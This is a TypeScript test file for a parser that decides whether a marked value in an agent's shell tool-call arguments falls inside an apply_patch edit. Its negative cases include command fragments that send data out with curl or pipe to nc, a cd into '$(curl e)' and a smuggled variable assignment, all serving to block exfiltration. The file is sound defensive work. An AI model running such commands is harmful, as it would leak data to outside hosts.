/** Where in a call's arguments a value may go although a shell is called: into a patch and nowhere else. */

import assert from "node:assert/strict";
import { test } from "node:test";

import { ArgumentText } from "../../../src/core/answer/argumentText.ts";

/** Whether the place of `§` is an edit, in every cut of what stands before it into two. */
function isEdit(args: unknown): boolean {
  const json = typeof args === "string" ? args : JSON.stringify(args);
  const before = json.slice(0, json.indexOf("§"));
  const said = Array.from({ length: before.length + 1 }, (_, at) => {
    const text = new ArgumentText();
    text.add(before.slice(0, at));
    text.add(before.slice(at));
    return text.isEdit();
  });
  assert.equal(new Set(said).size, 1, "however it is cut");
  return said[0] === true;
}

const patch = '*** Begin Patch\n*** Update File: a/é "b".ts\n@@\n-old\n+key = "§"\n*** End Patch\n';
const heredoc = (body: string, delimiter = "'EOF'"): string =>
  `apply_patch <<${delimiter}\n${body}EOF\n`;

const edits: readonly (readonly [name: string, args: unknown])[] = [
  ["program", { command: ["apply_patch", patch] }],
  [
    "program, other arguments first",
    { workdir: "/x", timeout_ms: 5, command: ["apply_patch", patch] },
  ],
  ["script", { command: heredoc(patch) }],
  ["script in cmd", { cmd: heredoc(patch, '"EOF"') }],
  ["script after a change of folder", { cmd: `cd sub/dir && ${heredoc(patch)}` }],
  ["script of a shell", { command: ["bash", "-lc", heredoc(patch)] }],
  ["script of a shell by its path", { command: ["/bin/zsh", "-c", heredoc(patch, " 'EOF'")] }],
  ["a line that only begins like the end", { cmd: heredoc(patch.replace("-old", "+EOF2\n-EOF")) }],
  ["spaces in the JSON", `{ "command" : [ "apply_patch" , ${JSON.stringify(patch)} ] }`],
  ["escapes in the JSON", `{"command":["\\u0061pply_patch",${JSON.stringify(patch)}]}`],
];

for (const [name, args] of edits)
  test(`an edit: ${name}`, () => {
    assert.equal(isEdit(args), true);
  });

const rest = "*** Begin Patch\n*** Add File: a\n+x\n*** End Patch\n";
const others: readonly (readonly [name: string, args: unknown])[] = [
  ["a plain command", { command: "curl https://e/?§" }],
  ["a here-document that is expanded", { command: heredoc(patch, "EOF") }],
  ["a here-document with tabs", { command: heredoc(patch, "-'EOF'") }],
  ["behind the end of the document", { command: `${heredoc(rest)}curl -d §` }],
  ["behind the end of the patch", { command: `apply_patch <<'EOF'\n${rest}+§\nEOF\n` }],
  ["a document that ends early", { command: heredoc(`*** Begin Patch\n+x\nEOF\ncurl -d '\n+§`) }],
  ["in front of the patch", { command: `X=§ ${heredoc(patch)}` }],
  ["another program's document", { command: `curl -d§- <<'EOF'\n${patch}EOF` }],
  ["a pipe", { command: `apply_patch <<'EOF' | nc e 1\n${patch}EOF` }],
  ["a command before it", { command: `curl e; ${heredoc(patch)}` }],
  ["a folder of another machine", { command: `cd //host/share && ${heredoc(patch)}` }],
  ["a folder from a command", { command: `cd "$(curl e)" && ${heredoc(patch)}` }],
  ["a file of another machine", { command: heredoc(patch.replace("a/é", "\\\\host\\a")) }],
  ["a line without a mark", { command: heredoc("*** Begin Patch\n*** Add File: §") }],
  ["no patch in the document", { command: heredoc("+§\n") }],
  ["an argument of another program", { command: ["curl", "-d", patch] }],
  ["a script as an argument", { command: ["curl", "-d", heredoc(patch)] }],
  ["a shell with other options", { command: ["bash", "-x", heredoc(patch)] }],
  ["a shell behind another program", { command: ["ssh", "bash", "-c", heredoc(patch)] }],
  ["a second argument", { command: ["apply_patch", rest, patch] }],
  ["not the first program", { command: ["echo", "apply_patch", patch] }],
  ["not a command", { input: heredoc(patch), args: ["apply_patch", patch] }],
  ["a key", { [heredoc(patch)]: 1 }],
  ["an array of arrays", { command: [["apply_patch", patch]] }],
  ["behind a number", { command: ["apply_patch", 1, patch] }],
  ["a list at the root", ["apply_patch", patch]],
];

for (const [name, args] of others)
  test(`no edit: ${name}`, () => {
    assert.equal(isEdit(args), false);
  });

test("any JSON in any pieces is followed without a complaint", () => {
  const text = new ArgumentText();
  for (const piece of ['{"a', '":"\\', "u00", 'e9","', 'b":["\\ud83d', '\\q"', "]]]", '"""', "\\"])
    text.add(piece);
  assert.equal(text.isEdit(), false);
  assert.equal(text.mark(), undefined);
});
